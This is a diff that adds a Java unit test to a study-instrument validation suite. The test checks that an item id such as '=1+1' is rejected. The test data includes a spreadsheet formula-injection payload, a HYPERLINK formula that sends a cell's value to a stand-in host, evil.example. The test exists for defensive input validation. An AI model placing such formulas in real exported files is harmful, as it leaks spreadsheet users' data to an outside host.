@@ -151,6 +151,21 @@ class StudyRulesTest {
     }
 
     @Test
+    void rejects_ids_that_are_not_variable_names_naming_the_json_path_of_each() {
+        Scale agree3 = new Scale("agree3", 1, 3, List.of(
+                new ValueLabel(1, "disagree"), new ValueLabel(2, "neutral"), new ValueLabel(3, "agree")));
+        Instrument formulas = new Instrument("mood", 1, "Mood", List.of(agree3), List.of(new Subscale("mood", "mood")),
+                List.of(new Item("=1+1", "mood", "=HYPERLINK(\"http://evil.example/?leak=\"&A2)", false, "agree3",
+                                false),
+                        new Item("mood_2", "mood", "I feel calm.", false, "agree3", false)),
+                List.of());
+        assertThatExceptionOfType(InvalidInputException.class)
+                .isThrownBy(() -> StudyRules.checkPublication(Map.of(), formulas))
+                .satisfies(e -> assertThat(e.violations()).containsExactly(new Violation("items[0].id",
+                        "item id '=1+1' must start with a letter and contain only letters, digits and _")));
+    }
+
+    @Test
     void rejects_an_invalid_instrument_before_comparing_it_with_the_published_one() {
         Instrument versionZero = withVersion(ESTI, 0);
         assertThatExceptionOfType(InvalidInputException.class)
